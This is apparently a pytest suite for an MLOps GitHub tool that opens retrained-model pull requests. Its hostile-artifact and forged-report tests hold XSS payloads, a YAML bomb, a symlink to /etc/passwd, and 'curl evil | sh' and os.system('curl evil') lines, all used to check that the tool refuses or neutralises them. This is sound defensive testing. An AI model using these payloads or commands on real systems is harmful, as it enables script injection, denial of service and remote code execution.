"""`mlops-gitops retrain-pr`: a retrain of the default branch becomes the one "retrained model" PR.

The artifact is made the way mlops-train makes it: a real Git repository, a commit (whose subject is
hostile), a reproduced dvc.lock and metrics in the work tree, and `mlops-gitops report --base HEAD` in
JSON and Markdown. The fake GitHub (over real HTTP) holds the default branch; the report's base commit
is pointed at its head, the commit that was trained.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from mlops_gitops.cli import main
from tests.fakegithub import BOT_EMAIL, BOT_LOGIN, FakeGitHub, env_for
from tests.inert import live, problems, visible

REPO = "acme/models"
BRANCH = "mlops-gitops/retrained-model"
RUN_URL = "https://github.com/acme/models/actions/runs/4242"
SUBJECT = "Tune @acme/ml-team closes #1 <img src=x onerror=alert(1)> [x](https://evil.example)"
METRIC = "fixes acme/models#3 @acme/ml-team <details>"
STRING_METRIC = '<a href="https://evil.example">Approve</a> ![t](https://tracker.example/p.gif)'
WORDS = ["@acme/ml-team", "closes #1", "<img src=x onerror=alert(1)>", "[x](https://evil.example)"]

MANIFEST = f"""\
version: 1
project:
  name: demo
stages:
  train:
    cmd: python train.py
    deps: [data/train.csv, train.py]
    outs: [models]
    metrics:
      - metrics.json:
          cache: false
metrics:
  gates:
    - metric: acc
      min: 0.8
    - metric: {json.dumps(METRIC)}
      min: 0.5
"""

LOCK = """\
schema: '2.0'
stages:
  train:
    cmd: python train.py
    deps:
    - path: data/train.csv
      hash: md5
      md5: {data}
      size: 10
    outs:
    - path: models
      hash: md5
      md5: {model}.dir
      size: 20
      nfiles: 1
    - path: metrics.json
      hash: md5
      md5: {metrics}
      size: 5
"""

OLD_MODEL, NEW_MODEL, NEWER_MODEL = "a" * 32, "b" * 32, "c" * 32
DATA_OLD, DATA_NEW = "0123456789abcdef0123456789abcdef", "fedcba9876543210fedcba9876543210"


def lock(model: str, data: str = DATA_OLD, metrics: str = "1" * 32) -> str:
    return LOCK.format(model=model, data=data, metrics=metrics)


def metrics(acc: float) -> str:
    return json.dumps({"acc": acc, METRIC: 0.9, "model": STRING_METRIC}) + "\n"


OLD_METRICS = metrics(0.85)


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout.strip()


def run(*args: str) -> int:
    try:
        return main(list(args)) or 0
    except SystemExit as exc:
        return int(exc.code or 0)


# --- the artifact, made by `report` as mlops-train makes it ----------------------------------------


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, str]]:
    """``report --base HEAD`` (JSON, Markdown) of a passing and of a failing retrain."""
    out: dict[str, tuple[str, str]] = {}
    for kind, acc in (("pass", 0.9), ("fail", 0.5)):
        root = tmp_path_factory.mktemp(f"trained-{kind}")
        git(root, "init", "-q", "-b", "main")
        (root / "mlops.yaml").write_text(MANIFEST)
        (root / "dvc.lock").write_text(lock(OLD_MODEL))
        (root / "metrics.json").write_text(OLD_METRICS)
        git(root, "add", "-A")
        git(root, "commit", "-qm", SUBJECT)
        (root / "dvc.lock").write_text(lock(NEW_MODEL, DATA_NEW))
        (root / "metrics.json").write_text(metrics(acc))
        manifest = str(root / "mlops.yaml")
        for fmt in ("json", "markdown"):
            code = run(
                "report",
                "--base",
                "HEAD",
                "--format",
                fmt,
                "--output",
                str(root / fmt),
                "--manifest",
                manifest,
            )
            assert code == (0 if kind == "pass" else 1), (kind, fmt)
        out[kind] = ((root / "json").read_text(), (root / "markdown").read_text())
    return out


def make_artifact(
    folder: Path,
    reports: dict[str, tuple[str, str]],
    sha: str,
    *,
    kind: str = "pass",
    reason: str = "schedule",
    files: dict[str, str] | None = None,
    run_url: str = RUN_URL,
) -> Path:
    """The folder mlops-train uploads, for the trained commit ``sha``."""
    if folder.exists():
        shutil.rmtree(folder)
    (folder / "files").mkdir(parents=True)
    report_json, report_md = reports[kind]
    data = json.loads(report_json)
    data["base"]["commit"] = data["lineage"]["base_commit"] = sha  # the fake's commit was trained
    (folder / "report.json").write_text(json.dumps(data))
    (folder / "report.md").write_text(report_md)
    (folder / "run.json").write_text(json.dumps({"sha": sha, "reason": reason, "run_url": run_url}))
    for path, text in (
        files or {"dvc.lock": lock(NEW_MODEL, DATA_NEW), "metrics.json": metrics(0.9)}
    ).items():
        (folder / "files" / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / "files" / path).write_text(text)
    return folder


@pytest.fixture
def gh(fake_github: FakeGitHub, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> FakeGitHub:
    fake_github.add_repo(
        REPO,
        files={
            "mlops.yaml": MANIFEST,
            "dvc.yaml": "stages:\n  train:\n    cmd: python train.py\n",
            "dvc.lock": lock(OLD_MODEL),
            "metrics.json": OLD_METRICS,
        },
    )
    for name, value in env_for(fake_github, REPO).items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("HOME", str(tmp_path))  # cli.main logs a bug's traceback under ~/.cache
    for name in ("GITHUB_ACTIONS", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "MLOPS_GITOPS_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    return fake_github


@pytest.fixture
def manifest(tmp_path: Path) -> Path:
    """The retrain-pr job checks out mlops.yaml only."""
    path = tmp_path / "checkout" / "mlops.yaml"
    path.parent.mkdir()
    path.write_text(MANIFEST)
    return path


def main_sha(gh: FakeGitHub) -> str:
    return gh.repo(REPO).refs["heads/main"]


def retrain_pr(
    capsys: pytest.CaptureFixture[str], manifest: Path, folder: Path, *extra: str
) -> tuple[int, str]:
    code = run("retrain-pr", "--from", str(folder), "--manifest", str(manifest), *extra)
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def assert_inert(body: str | None, *words: str) -> None:
    assert body, "nothing was sent"
    assert problems(body) == [], body
    seen = visible(body)
    for word in words:
        assert word in seen, f"{word!r} is no longer readable in:\n{body}"


def assert_everything_sent_is_inert(fake: FakeGitHub) -> None:
    sent = 0
    for request in fake.writes():
        payload: dict[str, Any] = request.body if isinstance(request.body, dict) else {}
        for key in ("title", "body", "message"):
            if isinstance(payload.get(key), str):
                sent += 1
                assert live(payload[key]) == [], (request.method, request.path, key, payload[key])
    assert sent, "no text was sent"


# --- gates pass: the one retrained-model PR --------------------------------------------------------


def test_opens_the_pr_with_the_locks_on_the_fixed_branch(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    trained = main_sha(gh)
    folder = make_artifact(tmp_path / "artifact", reports, trained)
    code, out = retrain_pr(capsys, manifest, folder)
    assert code == 0, out
    assert out.startswith("created retrained-model PR #1: ") and len(out.strip().splitlines()) == 1, out
    (pr,) = gh.pulls(REPO)
    assert (pr.head, pr.base, pr.user) == (BRANCH, "main", BOT_LOGIN)
    assert pr.title == f"Retrained model for demo, trained at {trained[:7]}"
    assert pr.labels == ["mlops-gitops"]
    head = gh.head_commit(REPO, BRANCH)
    assert head.parents == [trained] and head.author["email"] == BOT_EMAIL
    assert gh.file(REPO, BRANCH, "dvc.lock") == lock(NEW_MODEL, DATA_NEW)
    assert gh.file(REPO, BRANCH, "metrics.json") == metrics(0.9)
    assert gh.file(REPO, "main", "dvc.lock") == lock(OLD_MODEL), "the default branch is untouched"
    body = pr.body or ""
    assert body.startswith("<!-- mlops-gitops:retrain project=demo hash=")
    assert f"commit={trained} -->" in body.splitlines()[0]
    assert RUN_URL in body and "`schedule`" in body
    assert "### Gates" in body and "`acc`" in body and "0.9" in body  # the gates
    assert DATA_NEW in body and DATA_OLD in body  # the lineage: data hashes, committed -> reproduced
    assert "The full report" in body and "improved" in body  # the report against the default branch
    assert "does not match the pipeline reproduced here" not in body, "this PR is what records it"
    assert_inert(body, *WORDS)
    assert_everything_sent_is_inert(gh)
    assert "Run: " + RUN_URL in head.message
    (status,) = gh.repo(REPO).statuses[head.sha]  # GITHUB_TOKEN's push starts no check: this is one
    assert (status["state"], status["context"], status["target_url"]) == (
        "success",
        "mlops-gitops/recorded-run",
        RUN_URL,
    )


def test_the_same_retrain_again_is_unchanged(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = make_artifact(tmp_path / "artifact", reports, main_sha(gh))
    assert retrain_pr(capsys, manifest, folder)[0] == 0
    writes = len(gh.writes())
    code, out = retrain_pr(capsys, manifest, folder)
    assert code == 0 and "unchanged retrained-model PR #1" in out, out
    assert len(gh.writes()) == writes


def test_a_newer_retrain_updates_the_same_pr_on_its_own_commit(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    first = main_sha(gh)
    assert retrain_pr(capsys, manifest, make_artifact(tmp_path / "a", reports, first))[0] == 0
    gh.fail("POST", r"/pulls$", count=5, kind="server")  # a second PR would fail loudly

    # The default branch moved (someone merged something else); the next schedule trains its head.
    second = gh.add_file(REPO, "main", "README.md", "# models, v2\n")
    newer = {"dvc.lock": lock(NEWER_MODEL, DATA_NEW), "metrics.json": metrics(0.95)}
    code, out = retrain_pr(capsys, manifest, make_artifact(tmp_path / "b", reports, second, files=newer))
    assert code == 0 and "updated retrained-model PR #1" in out, out
    (pr,) = gh.pulls(REPO)
    assert gh.head_commit(REPO, BRANCH).parents == [second], "recreated on the commit trained"
    assert gh.file(REPO, BRANCH, "dvc.lock") == newer["dvc.lock"]
    assert gh.file(REPO, BRANCH, "README.md") == "# models, v2\n"
    assert f"commit={second}" in (pr.body or "") and second[:7] in pr.title

    # The same result trained on a newer head: the branch is rebased onto it.
    third = gh.add_file(REPO, "main", "docs.md", "docs\n")
    code, out = retrain_pr(capsys, manifest, make_artifact(tmp_path / "c", reports, third, files=newer))
    assert code == 0 and "updated retrained-model PR #1" in out, out
    assert gh.head_commit(REPO, BRANCH).parents == [third]
    assert len(gh.pulls(REPO)) == 1


def test_a_human_commit_on_the_branch_is_not_force_pushed(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert retrain_pr(capsys, manifest, make_artifact(tmp_path / "a", reports, main_sha(gh)))[0] == 0
    human = gh.add_commit_by(REPO, BRANCH, "Bob Human", "bob@example.com")
    newer = {"dvc.lock": lock(NEWER_MODEL, DATA_NEW), "metrics.json": metrics(0.95)}
    folder = make_artifact(tmp_path / "b", reports, main_sha(gh), files=newer)
    code, out = retrain_pr(capsys, manifest, folder)
    assert code == 0 and "not force-pushing" in out and "not pushed" in out, out
    assert gh.repo(REPO).refs[f"heads/{BRANCH}"] == human
    (comment,) = gh.comments(REPO, 1)
    assert comment.body.startswith("<!-- mlops-gitops:retrain-blocked project=demo -->")
    assert "Bob Human" in comment.body and "did not force-push" in comment.body
    assert retrain_pr(capsys, manifest, folder)[0] == 0
    assert len(gh.comments(REPO, 1)) == 1, "a rerun edits the same note"


def test_a_pr_closed_without_merging_skips_that_result(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = make_artifact(tmp_path / "a", reports, main_sha(gh))
    assert retrain_pr(capsys, manifest, folder)[0] == 0
    gh.repo(REPO).issues[1].state = "closed"
    code, out = retrain_pr(capsys, manifest, folder)
    assert code == 0 and "closed without merging" in out, out
    assert len(gh.pulls(REPO)) == 1


def test_a_pr_someone_else_opened_from_the_branch_is_not_ours(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    number = gh.add_pull(REPO, BRANCH, body="<!-- mlops-gitops:retrain project=demo -->", user="mallory")
    before = gh.repo(REPO).refs[f"heads/{BRANCH}"]
    code, out = retrain_pr(capsys, manifest, make_artifact(tmp_path / "a", reports, main_sha(gh)))
    assert code == 0 and f"PR #{number}" in out and "opened by mallory" in out, out
    assert gh.repo(REPO).refs[f"heads/{BRANCH}"] == before
    assert gh.comments(REPO, number) == []


def test_a_default_branch_that_changed_the_lock_since_makes_the_retrain_outdated(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    trained = main_sha(gh)
    gh.add_file(REPO, "main", "dvc.lock", lock(NEWER_MODEL))  # a params PR recorded its own run
    code, out = retrain_pr(capsys, manifest, make_artifact(tmp_path / "a", reports, trained))
    assert code == 0 and "(outdated)" in out and "main changed dvc.lock" in out, out
    assert gh.pulls(REPO) == [] and f"heads/{BRANCH}" not in gh.repo(REPO).refs


def test_a_moved_default_branch_that_left_the_lock_alone_still_gets_the_pr(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    trained = main_sha(gh)
    gh.add_file(REPO, "main", "README.md", "moved on\n")
    code, out = retrain_pr(capsys, manifest, make_artifact(tmp_path / "a", reports, trained))
    assert code == 0 and "created" in out, out
    assert gh.head_commit(REPO, BRANCH).parents == [trained]


def test_files_the_trained_commit_already_holds_make_no_pr(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    files = {"dvc.lock": lock(OLD_MODEL), "metrics.json": OLD_METRICS}
    folder = make_artifact(tmp_path / "a", reports, main_sha(gh), files=files)
    code, out = retrain_pr(capsys, manifest, folder)
    assert code == 0 and "(recorded)" in out and "already holds" in out, out
    assert gh.pulls(REPO) == []


def test_a_trained_commit_off_the_default_branch_is_refused(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Hostile: run.json names a commit of another branch; a PR built on it would carry that branch's
    changes under the bot's name."""
    elsewhere = gh.add_file(REPO, "feature", "train.py", "import os; os.system('curl evil')\n")
    code, out = retrain_pr(capsys, manifest, make_artifact(tmp_path / "a", reports, elsewhere))
    assert code == 2 and "is not on main" in out, out
    assert gh.pulls(REPO) == [] and f"heads/{BRANCH}" not in gh.repo(REPO).refs


def test_an_output_git_does_not_track_is_refused(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A DVC-cached output (the model) never goes into Git, even when a lock names it."""
    text = lock(NEW_MODEL).replace("    - path: models\n", "    - path: model.pkl\n")
    folder = make_artifact(
        tmp_path / "a", reports, main_sha(gh), files={"dvc.lock": text, "model.pkl": "weights"}
    )
    code, out = retrain_pr(capsys, manifest, folder)
    assert code == 2 and "model.pkl: not a file Git tracks" in out, out
    assert gh.writes() == []


def test_dry_run_prints_the_pr_and_makes_no_request(
    gh: FakeGitHub,
    reports: Any,
    manifest: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "")
    folder = make_artifact(tmp_path / "a", reports, "f" * 40)
    code, out = retrain_pr(capsys, manifest, folder, "--dry-run")
    assert code == 0, out
    assert f"# would open or update the PR from {BRANCH} into main" in out
    assert "<!-- mlops-gitops:retrain project=demo hash=" in out
    assert gh.requests == []


def test_github_outputs_in_actions(
    gh: FakeGitHub,
    reports: Any,
    manifest: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    outputs = tmp_path / "outputs"
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_OUTPUT", str(outputs))
    assert retrain_pr(capsys, manifest, make_artifact(tmp_path / "a", reports, main_sha(gh)))[0] == 0
    text = outputs.read_text()
    assert "action=created" in text and "pr-number=1" in text


# --- gates fail: no PR, and the drift issue hears of it ---------------------------------------------

DRIFT_MARKER = "<!-- mlops-gitops:monitor project=demo -->"


def test_failing_gates_open_no_pr_and_note_the_drift_issue(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    issue = gh.add_issue(REPO, "Drift detected: demo", f"{DRIFT_MARKER}\nPSI 0.4", user=BOT_LOGIN)
    folder = make_artifact(tmp_path / "a", reports, main_sha(gh), kind="fail", reason="drift")
    code, out = retrain_pr(capsys, manifest, folder)
    assert code == 1, out
    assert "no pull request: gates fail" in out and "acc" in out
    assert f"created comment on drift issue #{issue}" in out
    assert gh.pulls(REPO) == [] and f"heads/{BRANCH}" not in gh.repo(REPO).refs
    (comment,) = gh.comments(REPO, issue)
    assert comment.body.startswith(f"<!-- mlops-gitops:retrain-failed project=demo commit={main_sha(gh)}")
    assert RUN_URL in comment.body and "fails the gates" in comment.body and "acc" in comment.body
    assert_inert(comment.body)
    assert_everything_sent_is_inert(gh)

    code, out = retrain_pr(capsys, manifest, folder)
    assert code == 1 and "unchanged comment" in out, out
    assert len(gh.comments(REPO, issue)) == 1, "a rerun of the same retrain edits its note"


def test_failing_gates_of_a_scheduled_retrain_make_no_request(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    gh.add_issue(REPO, "Drift detected: demo", f"{DRIFT_MARKER}\n", user=BOT_LOGIN)
    folder = make_artifact(tmp_path / "a", reports, main_sha(gh), kind="fail", reason="schedule")
    code, out = retrain_pr(capsys, manifest, folder)
    assert code == 1 and "no pull request: gates fail" in out, out
    assert gh.requests == []


def test_a_drift_issue_someone_else_opened_is_left_alone(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    issue = gh.add_issue(REPO, "Drift detected: demo", f"{DRIFT_MARKER}\n", user="mallory")
    folder = make_artifact(tmp_path / "a", reports, main_sha(gh), kind="fail", reason="drift")
    code, out = retrain_pr(capsys, manifest, folder)
    assert code == 1 and "no open drift issue" in out, out
    assert gh.comments(REPO, issue) == [] and gh.writes() == []


# --- a hostile artifact ----------------------------------------------------------------------------

BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)
)


def _symlink_file(folder: Path) -> None:
    (folder / "files" / "dvc.lock").unlink()
    (folder / "files" / "dvc.lock").symlink_to("/etc/passwd")


def _symlink_dir(folder: Path) -> None:
    (folder / "files" / "sub").symlink_to(folder.parent, target_is_directory=True)


def _write(path: str, text: str) -> Any:
    def change(folder: Path) -> None:
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)

    return change


def _run_json(**fields: Any) -> Any:
    def change(folder: Path) -> None:
        data = json.loads((folder / "run.json").read_text())
        data.update(fields)
        (folder / "run.json").write_text(json.dumps({k: v for k, v in data.items() if v is not None}))

    return change


def _report_json(**fields: Any) -> Any:
    def change(folder: Path) -> None:
        data = json.loads((folder / "report.json").read_text())
        data.update(fields)
        (folder / "report.json").write_text(json.dumps(data))

    return change


HOSTILE: dict[str, tuple[Any, str]] = {
    "symlinked lock": (_symlink_file, "not a regular file"),
    "symlinked folder": (_symlink_dir, "symbolic link"),
    "a lock inside .git": (_write("files/.git/dvc.lock", lock(NEW_MODEL)), "not a plain path"),
    "a file that is not a lock": (
        _write("files/train.py", "import os\n"),
        "neither a dvc.lock nor an output",
    ),
    "a lock no governed dvc.yaml is beside": (
        _write("files/other/dvc.lock", lock(NEW_MODEL)),
        "other/dvc.yaml is not a pipeline",
    ),
    "a YAML bomb in dvc.lock": (_write("files/dvc.lock", BOMB), "dvc.lock:"),
    "a recursive alias in dvc.lock": (_write("files/dvc.lock", "a: &a [*a]\n"), "dvc.lock:"),
    "a lock of another schema": (_write("files/dvc.lock", "train:\n  cmd: x\n"), "not a dvc.lock of DVC 3"),
    "a huge lock": (_write("files/dvc.lock", "#" * (2 << 20)), "larger than"),
    "no lock at all": (lambda f: shutil.rmtree(f / "files"), "no dvc.lock files"),
    "an unknown entry": (_write("payload.sh", "curl evil | sh\n"), "not part of a retrain artifact"),
    "a short sha": (_run_json(sha="abc123"), "full SHA"),
    "an uppercase sha": (_run_json(sha="A" * 40), "full SHA"),
    "a reason out of the enum": (_run_json(reason="cron"), "reason must be one of"),
    "a run url that is no run": (_run_json(run_url="https://evil.example/x"), "run_url must be"),
    "a run url with markup": (_run_json(run_url=RUN_URL + ")<img src=x>"), "run_url must be"),
    "another repository's run": (
        _run_json(run_url="https://github.com/evil/models/actions/runs/1"),
        "not of acme/models",
    ),
    "an unknown run field": (_run_json(extra="x"), "unknown field 'extra'"),
    "run.json not JSON": (_write("run.json", "{"), "not JSON"),
    "deeply nested report.json": (_write("report.json", "[" * 100_000), "not JSON"),
    "a report of another project": (_report_json(project="other"), "a report of project 'other'"),
    "a report against another commit": (_report_json(base={"commit": "0" * 40}), "not a report against"),
    "a pass with failures": (_report_json(failed=["acc: 0.1 < min 0.8"]), "verdict pass, yet"),
    "an unmarked report.md": (_write("report.md", "hello\n"), "not a report of project demo"),
    "a binary report.md": (
        _write("report.md", "<!-- mlops-gitops:pr-report project=demo -->\n\x00"),
        "not text",
    ),
}


@pytest.mark.parametrize("case", list(HOSTILE), ids=list(HOSTILE))
def test_a_hostile_artifact_is_refused_in_one_line_before_any_request(
    case: str,
    gh: FakeGitHub,
    reports: Any,
    manifest: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    change, expected = HOSTILE[case]
    folder = make_artifact(tmp_path / "artifact", reports, main_sha(gh))
    change(folder)
    start = time.process_time()
    code, out = retrain_pr(capsys, manifest, folder)
    assert time.process_time() - start < 10
    assert code == 2, out
    assert expected in out and len(out.strip().splitlines()) == 1 and "Traceback" not in out, out
    assert gh.requests == []


FORGED_REPORT = f"""\
<!-- mlops-gitops:pr-report project=demo -->
✅ **Pass** {SUBJECT}
<img src=x onerror=alert(1)> and <details open><summary>x</summary>
<details>
```
<script>alert(1)</script>
```
`code <b>span` <b>bold</b> `` ` `` <a href="https://evil.example">click</a>
| cell | `a|<img src=y>|b` |
|---|---|
[link](https://evil.example) ![img](https://tracker.example/p.gif) [ref] [x][ref]
[ref]: https://evil.example
- item
  ```
<iframe src="https://evil.example"></iframe>
<!-- hidden --> <https://evil.example> &#60;img&#62; \\<img src=z>
"""


def test_a_forged_report_posts_nothing_live(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = make_artifact(tmp_path / "a", reports, main_sha(gh))
    (folder / "report.md").write_text(FORGED_REPORT)
    code, out = retrain_pr(capsys, manifest, folder)
    assert code == 0, out
    (pr,) = gh.pulls(REPO)
    assert_inert(pr.body, *WORDS, "<script>alert(1)</script>", '<a href="https://evil.example">click</a>')
    assert_everything_sent_is_inert(gh)


def test_the_command_imports_neither_dvc_nor_a_data_library(tmp_path: Path, reports: Any) -> None:
    """The job holding the write token installs mlops-gitops with its github extra only."""
    folder = make_artifact(tmp_path / "a", reports, "f" * 40)
    manifest = tmp_path / "mlops.yaml"
    manifest.write_text(MANIFEST)
    script = (
        "import sys\n"
        "from mlops_gitops.cli import main\n"
        "try:\n"
        f"    main(['retrain-pr', '--from', {str(folder)!r}, '--manifest', {str(manifest)!r}, '--dry-run'])\n"
        "except SystemExit as exc:\n"
        "    assert not exc.code, exc.code\n"
        "heavy = sorted(m for m in sys.modules if m.split('.')[0] in ('dvc', 'dvc_data', 'pyarrow', 'scipy'))\n"
        "assert not heavy, heavy\n"
    )
    env = {**os.environ, "GITHUB_TOKEN": "", "GITHUB_REPOSITORY": ""}
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, env=env)
    assert proc.returncode == 0, proc.stdout + proc.stderr


# --- the pure parts ----------------------------------------------------------------------------------


def test_inert_markdown_leaves_a_report_readable_and_is_idempotent(reports: Any) -> None:
    from mlops_gitops.delivery.retrain import inert_markdown
    from mlops_gitops.reporters.markup import JOINER

    _, markdown = reports["pass"]
    once = inert_markdown(markdown)
    assert inert_markdown(once) == once
    assert problems(once) == []
    assert once.replace(JOINER, "") == markdown.replace(JOINER, ""), "only invisible joiners are added"
    # One base commit and head: two points a metric, which the report no longer charts (issue 24).
    assert "<details><summary>" in once and once.count("```mermaid") == markdown.count("```mermaid")


def test_the_marker_hash_is_found_only_after_its_own_marker() -> None:
    from mlops_gitops.adapters.github.pulls import blocked_marker, marked_hash

    mark = "<!-- mlops-gitops:retrain project=demo"
    assert marked_hash(f"{mark} hash=abc commit=def -->\nbody", mark) == "abc"
    assert marked_hash(f"{mark}2 hash=abc -->", mark) is None
    assert marked_hash("<!-- mlops-gitops:promotion project=demo hash=abc -->", mark) is None
    assert blocked_marker(mark) == "<!-- mlops-gitops:retrain-blocked project=demo"


def test_a_refusal_by_github_is_one_line_without_the_token(
    gh: FakeGitHub, reports: Any, manifest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    gh.fail("POST", r"/git/blobs$", kind="permission", permissions="contents=write")
    code, out = retrain_pr(capsys, manifest, make_artifact(tmp_path / "a", reports, main_sha(gh)))
    assert code == 1 and "contents: write" in out and len(out.strip().splitlines()) == 1, out
    assert gh.token not in out and "Traceback" not in out
